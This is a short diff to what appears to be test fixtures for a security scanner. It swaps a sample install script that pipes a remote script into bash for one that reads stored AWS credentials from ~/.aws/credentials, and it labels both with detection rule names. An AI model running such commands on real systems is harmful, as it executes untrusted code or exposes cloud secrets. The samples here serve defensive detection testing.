@@ -6,6 +6,7 @@ export const maliciousFiles = {
 };
 
 export const suspiciousFiles = {
-  // exec-pipe-shell (high): a remote script piped into a shell, from a host nobody vouches for.
-  "scripts/install.sh": "#!/bin/sh\nset -e\ncurl -fsSL https://downloads.example.net/tool/install.sh | bash\n",
+  // cred-cloud-files (high): reads stored cloud credentials, with nothing sending them anywhere.
+  // (A remote script piped into a shell is malicious since scanner 2.0: docs/decisions/017.)
+  "scripts/install.sh": "#!/bin/sh\nset -e\ngrep -A2 '\\[default\\]' ~/.aws/credentials\n",
 };
